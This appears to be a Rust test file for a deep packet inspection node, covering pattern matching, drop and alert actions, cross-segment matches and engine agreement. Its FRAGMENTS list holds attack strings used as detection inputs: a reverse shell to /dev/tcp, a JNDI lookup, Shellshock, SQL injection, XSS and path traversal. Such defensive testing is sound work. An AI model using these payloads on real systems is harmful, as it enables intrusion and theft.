//! DPI node tests: hits and misses, drop vs alert, one event per (flow, pattern),
//! matches across segments, bad pattern files, the shipped pattern file.

use super::*;
use crate::elephant::testpkt::{as_gso, ping, run, tcp, udp, udp_from};
use crate::Node;
use nfx_io::FileScope;
use nfx_packet::{DropReason, Packet};
use proptest::prelude::*;
use std::path::{Path, PathBuf};

const PATTERNS: &str = "\
# test patterns
lit\talert\tliteral\tNFX-DPI-TEST
re\talert\tregex\t^SSH-2\\.0-[a-zA-Z]+
endre\talert\tregex\tTAIL-MARK$
bad\tdrop\tliteral\tEVIL-PAYLOAD
nocase\talert\tliteral_nocase\tunion select
";

fn shipped_path() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../configs/dpi/patterns.txt")
}

/// The scope of a config file beside the shipped pattern file.
fn shipped_dir() -> FileScope {
    FileScope::new(shipped_path().parent().unwrap())
}

fn shipped_specs() -> Vec<PatternSpec> {
    patterns::load(&shipped_dir(), Path::new("patterns.txt")).unwrap()
}

fn dpi_with(text: &str, cfg: DpiConfig) -> Dpi {
    let specs = patterns::parse(text, Path::new("t.txt")).unwrap();
    Dpi::from_specs("dpi0", &cfg, &specs, Path::new("t.txt")).unwrap()
}

fn dpi(text: &str) -> Dpi {
    dpi_with(text, DpiConfig::with_patterns("t.txt"))
}

fn ids(events: &[serde_json::Value]) -> Vec<String> {
    let mut v: Vec<String> = events
        .iter()
        .map(|e| {
            e["detail"]["pattern_id"]
                .as_str()
                .unwrap_or("?")
                .to_string()
        })
        .collect();
    v.sort();
    v
}

/// A temporary file removed on drop, even when the test fails.
struct TempFile(PathBuf);

impl TempFile {
    fn new(tag: &str, text: &str) -> Self {
        let p = std::env::temp_dir().join(format!("nfx-dpi-{}-{tag}.txt", std::process::id()));
        std::fs::write(&p, text).unwrap();
        TempFile(p)
    }
}

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn shipped_pattern_file_loads_over_100_patterns() {
    let specs = shipped_specs();
    assert!(specs.len() >= 100, "{}", specs.len());
    let test = specs
        .iter()
        .find(|s| s.literal == b"NFX-DPI-TEST")
        .expect("NFX-DPI-TEST present");
    assert_eq!((test.action, test.kind), (Action::Alert, Kind::Literal));
    assert!(specs.iter().any(|s| s.kind == Kind::Regex));
    assert!(specs.iter().any(|s| s.action == Action::Drop));
    let cfg = DpiConfig::with_patterns("patterns.txt");
    let d = Dpi::new("dpi0", &cfg, &shipped_dir()).unwrap();
    assert_eq!(d.pattern_len(), specs.len());
    assert_eq!(d.engine_name(), "hybrid");
    // Every shipped pattern has a literal factor or a start anchor.
    assert_eq!(d.stats()["patterns_unaccelerated"], 0);
    assert_eq!(d.stats()["patterns"], specs.len());
}

#[test]
fn shipped_patterns_pass_random_bulk_data_and_catch_the_test_string() {
    let cfg = DpiConfig::with_patterns("patterns.txt");
    let mut d = Dpi::new("dpi0", &cfg, &shipped_dir()).unwrap();
    // Pseudo-random bytes like iperf3's payload: no pattern may drop them.
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    let data: Vec<u8> = (0..64_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let mut pkts = [as_gso(tcp(5000, 5201, 1, "", &data), 1448)];
    run(&mut d, &mut pkts, 0);
    assert!(pkts[0].alive());
    let mut p = [udp(1, 2, b"hello NFX-DPI-TEST world")];
    let ev = run(&mut d, &mut p, 0);
    assert!(p[0].alive());
    assert!(ids(&ev).contains(&"nfx-test-alert".to_string()), "{ev:?}");
}

#[test]
fn literal_and_regex_hits_at_payload_start_and_end_and_misses() {
    let mut d = dpi(PATTERNS);
    let cases: [(&[u8], &[&str]); 7] = [
        (b"NFX-DPI-TEST at the start", &["lit"]),
        (b"at the end NFX-DPI-TEST", &["lit"]),
        (b"SSH-2.0-OpenSSH_9.6\r\n", &["re"]),
        (b"banner SSH-2.0-OpenSSH", &[]),
        (b"xx TAIL-MARK", &["endre"]),
        (b"TAIL-MARK xx", &[]),
        (b"NFX-DPI-TES", &[]),
    ];
    for (i, (payload, want)) in cases.iter().enumerate() {
        // A new source port per case: a new flow, so every hit raises its event.
        let ev = run(&mut d, &mut [udp(1000 + i as u16, 53, payload)], 0);
        assert_eq!(ids(&ev), *want, "{:?}", String::from_utf8_lossy(payload));
    }
    let ev = run(&mut d, &mut [tcp(1, 80, 7, "", b"a UNION SELECT b")], 0);
    assert_eq!(ids(&ev), ["nocase"]);
}

#[test]
fn nodes_around_clones_of_one_engine_match_on_their_own() {
    let specs = patterns::parse(PATTERNS, Path::new("t.txt")).unwrap();
    let cfg = DpiConfig::with_patterns("t.txt");
    for kind in [EngineKind::Hybrid, EngineKind::Regex] {
        let cfg = DpiConfig {
            engine: kind,
            ..cfg.clone()
        };
        let engine = engine::Engine::build(&specs, kind).unwrap();
        let mut a = Dpi::with_engine("a", &cfg, &specs, engine.clone()).unwrap();
        let mut b = Dpi::with_engine("b", &cfg, &specs, engine.clone()).unwrap();
        let ev = run(
            &mut a,
            &mut [udp(1000, 53, b"SSH-2.0-OpenSSH NFX-DPI-TEST")],
            0,
        );
        assert_eq!(ids(&ev), ["lit", "re"]);
        // `a`'s scan left nothing behind in `b`'s engine or tables.
        assert!(run(&mut b, &mut [udp(1000, 53, b"banner SSH-2.0-x")], 0).is_empty());
        let ev = run(&mut b, &mut [udp(1001, 53, b"xx TAIL-MARK")], 0);
        assert_eq!(ids(&ev), ["endre"]);
        assert_eq!(a.stats()["matches_alert"], 2);
        assert_eq!(b.stats()["matches_alert"], 1);
    }
    let fewer = engine::Engine::build(&specs[..2], EngineKind::Hybrid).unwrap();
    let e = Dpi::with_engine("c", &cfg, &specs, fewer)
        .unwrap_err()
        .to_string();
    assert!(e.contains("dpi.patterns"), "{e}");
}

#[test]
fn headers_are_not_payload() {
    let mut d = dpi("port\talert\tliteral\t\\x00\\x35\n");
    // UDP port 53 (0x0035) is in the header only.
    assert!(run(&mut d, &mut [udp(53, 53, b"plain")], 0).is_empty());
    assert_eq!(d.stats()["bytes_scanned"], 5);
}

#[test]
fn gso_sized_payload_is_scanned_whole() {
    for kind in [EngineKind::Regex, EngineKind::AhoCorasick] {
        let cfg = DpiConfig {
            engine: kind,
            ..DpiConfig::with_patterns("t")
        };
        let mut d = dpi_with("a\talert\tliteral\tNFX-DPI-TEST\n", cfg);
        for (i, at) in [0usize, 31_000, 64_000 - 12].into_iter().enumerate() {
            let mut data = vec![b'.'; 64_000];
            data[at..at + 12].copy_from_slice(b"NFX-DPI-TEST");
            let p = as_gso(tcp(2000 + i as u16, 80, 1, "", &data), 1448);
            assert_eq!(run(&mut d, &mut [p], 0).len(), 1, "{kind:?} at {at}");
        }
        assert_eq!(d.stats()["bytes_scanned"], 3 * 64_000);
    }
}

#[test]
fn drop_action_drops_and_alert_passes() {
    let mut d = dpi(PATTERNS);
    let mut pkts = [
        tcp(10, 80, 1, "", b"GET /?q=EVIL-PAYLOAD"),
        tcp(11, 80, 1, "", b"NFX-DPI-TEST"),
        tcp(12, 80, 1, "", b"nothing here"),
    ];
    let ev = run(&mut d, &mut pkts, 5);
    assert_eq!(pkts[0].drop, Some(DropReason::DpiDrop));
    assert!(pkts[1].alive() && pkts[2].alive());
    assert_eq!(ev.len(), 2);
    assert_eq!(ev[0]["kind"], "dpi_match");
    assert_eq!(ev[0]["ts_ns"], 5);
    assert_eq!(ev[0]["detail"]["action"], "drop");
    assert_eq!(ev[0]["detail"]["pattern_id"], "bad");
    assert_eq!(ev[0]["flow"]["sport"], 10);
    assert_eq!(ev[1]["detail"]["action"], "alert");
    let s = d.stats();
    assert_eq!(
        (s["matches_drop"].as_u64(), s["matches_alert"].as_u64()),
        (Some(1), Some(1))
    );
    assert_eq!(s["dropped"], 1);
    assert_eq!(s["patterns_drop"], 1);
}

#[test]
fn packets_already_dropped_are_skipped() {
    let mut d = dpi(PATTERNS);
    let mut p = udp(1, 2, b"EVIL-PAYLOAD");
    p.drop = Some(DropReason::AclDeny);
    let mut pkts = [p];
    assert!(run(&mut d, &mut pkts, 0).is_empty());
    assert_eq!(pkts[0].drop, Some(DropReason::AclDeny));
    assert_eq!(d.stats()["packets_scanned"], 0);
}

#[test]
fn one_event_per_flow_and_pattern() {
    let mut d = dpi(PATTERNS);
    let mut events = Vec::new();
    for i in 0..10 {
        events.extend(run(&mut d, &mut [udp(7, 8, b"NFX-DPI-TEST")], i));
    }
    assert_eq!(events.len(), 1);
    // Same flow, another pattern: a new event; another flow: a new event.
    assert_eq!(run(&mut d, &mut [udp(7, 8, b"EVIL-PAYLOAD")], 11).len(), 1);
    assert_eq!(run(&mut d, &mut [udp(9, 8, b"NFX-DPI-TEST")], 12).len(), 1);
    let s = d.stats();
    assert_eq!(s["events"], 3);
    assert_eq!(s["events_suppressed"], 9);
    assert_eq!(s["matches_alert"], 11);
    assert_eq!(s["top_patterns"]["lit"], 11);
}

#[test]
fn event_memory_stays_bounded_under_a_flood_of_flows() {
    let cfg = DpiConfig {
        event_table: 64,
        ..DpiConfig::with_patterns("t")
    };
    let mut d = dpi_with(PATTERNS, cfg);
    let mem = d.stats()["memory_bytes"].clone();
    for i in 0..20_000u32 {
        let b = i.to_be_bytes();
        run(
            &mut d,
            &mut [udp_from([10, b[1], b[2], b[3]], 1, b"NFX-DPI-TEST")],
            u64::from(i),
        );
    }
    let s = d.stats();
    assert!(s["event_pairs"].as_u64().unwrap() <= s["event_capacity"].as_u64().unwrap());
    assert_eq!(s["memory_bytes"], mem);
    assert_eq!(s["events"], 20_000);
}

#[test]
fn pattern_split_across_tcp_segments_is_found_once() {
    let mut d = dpi(PATTERNS);
    assert!(run(&mut d, &mut [tcp(40, 80, 100, "", b"first part NFX-DP")], 0).is_empty());
    let ev = run(&mut d, &mut [tcp(40, 80, 117, "", b"I-TEST rest")], 1);
    assert_eq!(ids(&ev), ["lit"]);
    assert_eq!(ev[0]["detail"]["across_segments"], true);
    // The match now lies wholly in the tail: the next segment does not count it again.
    assert!(run(&mut d, &mut [tcp(40, 80, 128, "", b"more")], 2).is_empty());
    assert_eq!(d.stats()["matches_alert"], 1);
    assert_eq!(d.stats()["matches_across_segments"], 1);
}

#[test]
fn split_drop_pattern_drops_the_completing_segment() {
    let mut d = dpi(PATTERNS);
    let mut a = [tcp(41, 80, 1, "syn", b"xxEVIL-")];
    run(&mut d, &mut a, 0);
    assert!(a[0].alive());
    // SYN consumed one sequence number: data started at 2, next byte at 9.
    let mut b = [tcp(41, 80, 9, "", b"PAYLOADyy")];
    run(&mut d, &mut b, 1);
    assert_eq!(b[0].drop, Some(DropReason::DpiDrop));
}

#[test]
fn no_match_across_a_gap_or_with_streams_off_or_after_fin() {
    let mut d = dpi(PATTERNS);
    run(&mut d, &mut [tcp(42, 80, 100, "", b"NFX-DP")], 0);
    assert!(
        run(&mut d, &mut [tcp(42, 80, 999, "", b"I-TEST")], 1).is_empty(),
        "gap"
    );
    run(&mut d, &mut [tcp(43, 80, 100, "fin", b"NFX-DP")], 0);
    assert!(
        run(&mut d, &mut [tcp(43, 80, 106, "", b"I-TEST")], 1).is_empty(),
        "after fin"
    );
    let mut off = dpi_with(
        PATTERNS,
        DpiConfig {
            stream_window: 0,
            ..DpiConfig::with_patterns("t")
        },
    );
    run(&mut off, &mut [tcp(44, 80, 100, "", b"NFX-DP")], 0);
    assert!(
        run(&mut off, &mut [tcp(44, 80, 106, "", b"I-TEST")], 1).is_empty(),
        "off"
    );
    assert_eq!(off.stats()["stream_capacity"], 0);
}

#[test]
fn start_anchor_does_not_match_mid_stream() {
    let mut d = dpi(PATTERNS);
    // Tail ends with "SSH-2.0-" and the next segment continues with letters: the
    // ^-anchored banner pattern must not match at the tail.
    run(&mut d, &mut [tcp(45, 80, 1, "", b"..........SSH-2.0-")], 0);
    assert!(run(&mut d, &mut [tcp(45, 80, 19, "", b"OpenSSH")], 1).is_empty());
}

#[test]
fn icmp_and_empty_payloads_are_safe() {
    let mut d = dpi(PATTERNS);
    assert!(run(&mut d, &mut [ping(1, 1), tcp(1, 2, 3, "syn", b"")], 0).is_empty());
    assert_eq!(d.stats()["packets_scanned"], 1);
}

#[test]
fn corrupt_meta_is_ignored_not_a_panic() {
    let mut d = dpi(PATTERNS);
    let mut p = tcp(1, 2, 3, "", b"NFX-DPI-TEST");
    p.meta.payload = p.meta.ip_end + 10;
    p.meta.l4 = 5000;
    let mut pkts = [p];
    assert!(run(&mut d, &mut pkts, 0).is_empty());
    assert!(pkts[0].alive());
}

#[test]
fn pattern_file_is_read_relative_to_the_config_directory() {
    let f = TempFile::new("rel", PATTERNS);
    let dir = f.0.parent().unwrap();
    let name = f.0.file_name().unwrap();
    let d = Dpi::new(
        "dpi0",
        &DpiConfig::with_patterns(name),
        &FileScope::new(dir),
    )
    .unwrap();
    assert_eq!(d.pattern_len(), 5);
}

#[test]
fn bad_pattern_files_name_file_and_line() {
    let f = TempFile::new("bad", "ok\talert\tliteral\tx\n\nbroken\tdrop\tregex\t[a-\n");
    let e = Dpi::new(
        "dpi0",
        &DpiConfig::with_patterns(&f.0),
        &FileScope::new("/"),
    )
    .unwrap_err()
    .to_string();
    assert!(
        e.starts_with(&format!("{}:3: bad regex", f.0.display())),
        "{e}"
    );
    let e = Dpi::new(
        "d",
        &DpiConfig::with_patterns("missing.txt"),
        &FileScope::new("/nonexistent"),
    )
    .unwrap_err()
    .to_string();
    assert!(e.starts_with("`missing.txt`: cannot read"), "{e}");
    let mixed = TempFile::new("mixed", "a\talert\tliteral\tx\nr\talert\tregex\tab+\n");
    let cfg = DpiConfig {
        engine: EngineKind::AhoCorasick,
        ..DpiConfig::with_patterns(&mixed.0)
    };
    let e = Dpi::new("d", &cfg, &FileScope::new("/"))
        .unwrap_err()
        .to_string();
    assert!(
        e.starts_with(&format!("{}:2: engine aho_corasick", mixed.0.display())),
        "{e}"
    );
    let cfg = DpiConfig {
        stream_window: 1 << 20,
        ..DpiConfig::with_patterns(&f.0)
    };
    let e = Dpi::new("d", &cfg, &FileScope::new("/"))
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("dpi.stream_window: "), "{e}");
}

/// Pieces of protocol and attack text that the shipped patterns look for, to build
/// payloads that match many of them in random combinations.
const FRAGMENTS: &[&[u8]] = &[
    b"GET /",
    b"POST /index.php?id=1",
    b" HTTP/1.1\r\n",
    b"HTTP/1.0 200 OK\r\n",
    b"\r\nHost: www.youtube.com\r\n",
    b"\r\nUser-Agent: Mozilla/5.0\r\n",
    b"User-Agent: sqlmap/1.7",
    b"Authorization: Basic dXNlcjpwYXNz",
    b"SSH-2.0-OpenSSH_9.6\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00",
    b"' or '1'='1",
    b"UNION ALL SELECT ",
    b"union/**/select(",
    b"; DROP TABLE users",
    b"sleep(5)",
    b"${jndi:ldap://x}",
    b"() { :; };",
    b"bash -i >& /dev/tcp/10.0.0.1/4444",
    b"/etc/passwd",
    b"../../../",
    b"<script>",
    b"onerror=",
    b"document.cookie",
    b"NFX-DPI-TEST",
    b"EICAR",
    b"card 4111 1111 1111 1111 ",
    b"AKIAABCDEFGHIJKLMNOP ",
    b"220 mail ESMTP\r\n",
    b"USER anonymous\r\n",
    b"\xffSMB",
    b"%2e%2e%2f%2e%2e%2f",
    b"0123456789",
    b"\r\n",
    b" ",
    b"x",
];

/// Scans `hay[start..]` with the `regex` and the `hybrid` engine built once from the
/// shipped file; returns the ids each found.
fn shipped_engines_scan(hay: &[u8], start: usize) -> [Vec<String>; 2] {
    type Built = (Vec<PatternSpec>, Engine, Engine);
    static ENGINES: std::sync::OnceLock<std::sync::Mutex<Built>> = std::sync::OnceLock::new();
    let m = ENGINES.get_or_init(|| {
        let specs = shipped_specs();
        let re = Engine::build(&specs, EngineKind::Regex).unwrap();
        let hy = Engine::build(&specs, EngineKind::Hybrid).unwrap();
        std::sync::Mutex::new((specs, re, hy))
    });
    let mut g = m.lock().unwrap_or_else(|p| p.into_inner());
    let (specs, re, hy) = &mut *g;
    let run = |e: &mut Engine| {
        let mut set = regex_automata::PatternSet::new(specs.len());
        e.scan(hay, start..hay.len(), &mut set);
        set.iter()
            .map(|p| specs[p.as_usize()].id.clone())
            .collect::<Vec<_>>()
    };
    [run(re), run(hy)]
}

#[test]
fn engines_agree_on_every_fragment_together() {
    let hay: Vec<u8> = FRAGMENTS.iter().flat_map(|f| f.iter().copied()).collect();
    let [re, hy] = shipped_engines_scan(&hay, 0);
    assert_eq!(re, hy);
    assert!(re.len() >= 20, "{re:?}");
}

fn literal_subset() -> String {
    let specs = shipped_specs();
    specs
        .iter()
        .filter(|s| s.kind == Kind::Literal)
        .map(|s| format!("{}\t{}\tliteral\t{}\n", s.id, s.action.as_str(), s.text))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn engines_agree_on_literal_patterns(
        junk in proptest::collection::vec(any::<u8>(), 0..300),
        pick in 0usize..1000,
        at in 0usize..300,
    ) {
        let text = literal_subset();
        let specs = patterns::parse(&text, Path::new("t")).unwrap();
        let mut payload = junk.clone();
        let lit = &specs[pick % specs.len()].literal;
        let at = at.min(payload.len());
        payload.splice(at..at, lit.iter().copied());
        let mut found = Vec::new();
        for kind in [EngineKind::Regex, EngineKind::AhoCorasick] {
            let mut e = Engine::build(&specs, kind).unwrap();
            let mut set = regex_automata::PatternSet::new(specs.len());
            e.scan(&payload, 0..payload.len(), &mut set);
            found.push(set.iter().map(|p| p.as_usize()).collect::<Vec<_>>());
        }
        prop_assert!(found[0].contains(&(pick % specs.len())));
        prop_assert_eq!(&found[0], &found[1]);
    }

    #[test]
    fn hybrid_and_regex_engines_agree_on_the_shipped_patterns(
        picks in proptest::collection::vec(0usize..FRAGMENTS.len(), 1..24),
        noise in proptest::collection::vec(any::<u8>(), 0..8),
        cut in 0usize..4,
    ) {
        let hay: Vec<u8> = picks.iter().flat_map(|&i| FRAGMENTS[i].iter().copied()).chain(noise).collect();
        let start = cut.min(hay.len());
        let found = shipped_engines_scan(&hay, start);
        prop_assert_eq!(&found[0], &found[1]);
    }

    #[test]
    fn any_payload_and_any_meta_never_panic(
        payload in proptest::collection::vec(any::<u8>(), 0..2000),
        l4 in 0usize..3000,
        pay in 0usize..3000,
        end in 0usize..3000,
        seq in any::<u32>(),
    ) {
        let mut d = dpi(PATTERNS);
        let mut a = tcp(1, 2, seq, "", &payload);
        run(&mut d, std::slice::from_mut(&mut a), 0);
        let mut b: Packet = tcp(1, 2, seq.wrapping_add(payload.len() as u32), "", &payload);
        b.meta.l4 = l4;
        b.meta.payload = pay;
        b.meta.ip_end = end;
        run(&mut d, std::slice::from_mut(&mut b), 1);
    }
}

/// Engine throughput on the shipped patterns (a measurement, not a test):
/// `cargo test -p nfx-vnf --release -- --ignored --nocapture dpi_engine_throughput`.
#[test]
#[ignore]
fn dpi_engine_throughput() {
    let full = std::fs::read_to_string(shipped_path()).unwrap();
    let literals = literal_subset();
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    // Uniform bytes (like iperf3's payload) and text-like bytes (like HTTP), which
    // keep partial matches alive and exercise the automata harder.
    let uniform_data: Vec<u8> = (0..64_000).map(|_| next() as u8).collect();
    let text_data: Vec<u8> = (0..64_000)
        .map(|_| b" etaoinshrdlucmfwypvbgkjqxz\r\n/:=.GETHTTP"[(next() % 40) as usize])
        .collect();
    let sets = [
        ("literals", literals.as_str(), EngineKind::AhoCorasick),
        ("literals", literals.as_str(), EngineKind::Regex),
        ("literals", literals.as_str(), EngineKind::Hybrid),
        ("all", full.as_str(), EngineKind::Regex),
        ("all", full.as_str(), EngineKind::Hybrid),
    ];
    for (set, text, kind) in sets {
        let specs = patterns::parse(text, Path::new("t")).unwrap();
        let mut e = Engine::build(&specs, kind).unwrap();
        let mut ps = regex_automata::PatternSet::new(specs.len());
        for (data_name, data) in [("uniform", &uniform_data), ("text", &text_data)] {
            for size in [64usize, 1448, 64_000] {
                let total = 64usize << 20;
                let iters = total / size;
                let t = std::time::Instant::now();
                let mut hits = 0;
                for i in 0..iters {
                    let off = (i * 7919) % (data.len() - size + 1);
                    ps.clear();
                    e.scan(&data[off..off + size], 0..size, &mut ps);
                    hits += ps.len();
                }
                let secs = t.elapsed().as_secs_f64();
                println!(
                "set={set:<8} patterns={:<4} engine={:<12} data={data_name:<7} payload={size:<6} {:>8.3} Gbit/s {:>8.3} Mpkt/s hits={hits}",
                specs.len(),
                e.name(),
                (iters * size * 8) as f64 / secs / 1e9,
                iters as f64 / secs / 1e6
            );
            }
        }
    }
}

#[test]
fn chain_spec_builds_dpi_and_elephant_nodes() {
    let dir = shipped_dir();
    let v = serde_json::json!({"dpi": {"patterns": "patterns.txt", "stream_window": 32}});
    let spec: crate::spec::NodeSpec = serde_json::from_value(v).unwrap();
    let node = crate::spec::build(&spec, "dpi0", &dir).unwrap();
    assert_eq!(node.name(), "dpi0");
    assert!(node.stats()["patterns"].as_u64().unwrap() >= 100);
    let bad = serde_json::json!({"dpi": {"patterns": "missing.txt"}});
    let spec: crate::spec::NodeSpec = serde_json::from_value(bad).unwrap();
    let e = crate::spec::build(&spec, "dpi0", &dir).err().unwrap();
    assert_eq!(e.field, "dpi.patterns");
    let v = serde_json::json!({"elephant": {"min_bytes": 1000}});
    let spec: crate::spec::NodeSpec = serde_json::from_value(v).unwrap();
    assert_eq!(
        crate::spec::build(&spec, "ele0", &dir).unwrap().stats()["elephants"],
        0
    );
    let bad = serde_json::json!({"elephant": {"window_ms": 0}});
    let spec: crate::spec::NodeSpec = serde_json::from_value(bad).unwrap();
    assert_eq!(
        crate::spec::build(&spec, "ele0", &dir).err().unwrap().field,
        "elephant.window_ms"
    );
    let unknown = serde_json::json!({"elephant": {"thresh": 1}});
    assert!(serde_json::from_value::<crate::spec::NodeSpec>(unknown).is_err());
}

/// Fixed memory of both nodes with default configs (a measurement, not a test):
/// `cargo test -p nfx-vnf -- --ignored --nocapture memory_of_default_configs`.
#[test]
#[ignore]
fn memory_of_default_configs() {
    let d = Dpi::new(
        "dpi0",
        &DpiConfig::with_patterns("patterns.txt"),
        &shipped_dir(),
    )
    .unwrap();
    let e =
        crate::elephant::ElephantDetector::new("ele0", &crate::elephant::ElephantConfig::default())
            .unwrap();
    println!("dpi: {}", d.stats());
    println!(
        "elephant: {} (slot {} bytes)",
        e.stats(),
        crate::elephant::ElephantDetector::slot_bytes()
    );
}

#[test]
fn expire_frees_idle_stream_tails_and_event_pairs() {
    let cfg = DpiConfig {
        idle_timeout_ms: 10,
        ..DpiConfig::with_patterns("t")
    };
    let mut d = dpi_with(PATTERNS, cfg);
    run(&mut d, &mut [tcp(50, 80, 1, "", b"NFX-DPI-TEST")], 0);
    assert_eq!(
        (
            d.stats()["stream_flows"].as_u64(),
            d.stats()["event_pairs"].as_u64()
        ),
        (Some(1), Some(1))
    );
    // Expiry sweeps the tables over 50 ticks.
    (0..50).for_each(|_| d.expire(5_000_000));
    assert_eq!(d.stats()["stream_flows"], 1);
    (0..50).for_each(|_| d.expire(20_000_000));
    assert_eq!(
        (
            d.stats()["stream_flows"].as_u64(),
            d.stats()["event_pairs"].as_u64()
        ),
        (Some(0), Some(0))
    );
    // After expiry the pair may report again.
    assert_eq!(
        run(
            &mut d,
            &mut [tcp(50, 80, 13, "", b"NFX-DPI-TEST")],
            30_000_000
        )
        .len(),
        1
    );
}

#[test]
fn flows_are_inspected_to_their_depth_only() {
    let cfg = DpiConfig {
        depth: 100,
        ..DpiConfig::with_patterns("t.txt")
    };
    let mut d = dpi_with(PATTERNS, cfg);
    let filler = [b'x'; 60];
    // 60 + 60 bytes reach the 100-byte depth; the third packet of the flow is not scanned.
    assert!(run(&mut d, &mut [udp(5, 6, &filler)], 1).is_empty());
    assert!(run(&mut d, &mut [udp(5, 6, &filler)], 2).is_empty());
    let mut late = [udp(5, 6, b"EVIL-PAYLOAD")];
    assert!(run(&mut d, &mut late, 3).is_empty());
    assert!(late[0].alive());
    assert_eq!(d.stats()["packets_past_depth"], 1);
    // Another flow is still inspected from its first byte.
    let mut other = [udp(7, 6, b"EVIL-PAYLOAD")];
    assert_eq!(run(&mut d, &mut other, 4).len(), 1);
    assert_eq!(other[0].drop, Some(DropReason::DpiDrop));
}

#[test]
fn depth_zero_inspects_everything() {
    let cfg = DpiConfig {
        depth: 0,
        ..DpiConfig::with_patterns("t.txt")
    };
    let mut d = dpi_with(PATTERNS, cfg);
    for i in 0..20 {
        assert!(run(&mut d, &mut [udp(5, 6, &[b'y'; 1000])], i).is_empty());
    }
    assert_eq!(run(&mut d, &mut [udp(5, 6, b"NFX-DPI-TEST")], 30).len(), 1);
    assert_eq!(d.stats()["packets_past_depth"], 0);
}
